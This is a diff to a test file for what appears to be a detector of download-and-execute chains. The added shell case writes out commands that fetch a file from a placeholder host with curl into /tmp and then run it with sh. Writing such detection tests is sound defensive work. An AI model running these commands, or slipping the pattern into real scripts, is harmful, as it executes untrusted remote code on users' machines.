@@ -15,6 +15,7 @@ from tests.analysis.chains.making import (
     Case,
     asks,
     code,
+    command,
     elsewhere,
     fetch,
     flow,
@@ -47,6 +48,22 @@ CASES = (
         "download-written-and-started", [fetch(), write("x.exe"), start()], [fetch(), write("x.txt"), start()]
     ),
     Case("download-saved-and-started", [fetch(), write(), start()], [start(), write(), fetch()]),
+    Case(
+        "saved-download-started",
+        [
+            load(start("sh")),
+            command("curl https://far.invalid/x -o /tmp/x"),
+            load(start("sh")),
+            command("sh /tmp/x"),
+        ],
+        [
+            load(start("sh")),
+            command("curl https://far.invalid/x -o /tmp/x"),
+            load(start("sh")),
+            command("sh /tmp/y"),
+        ],
+        language=Language.SHELL,
+    ),
     Case(
         "download-saved-and-loaded",
         [load(fetch()), load(write("/tmp/x")), replace(asks("/tmp/x"), at_load=True)],
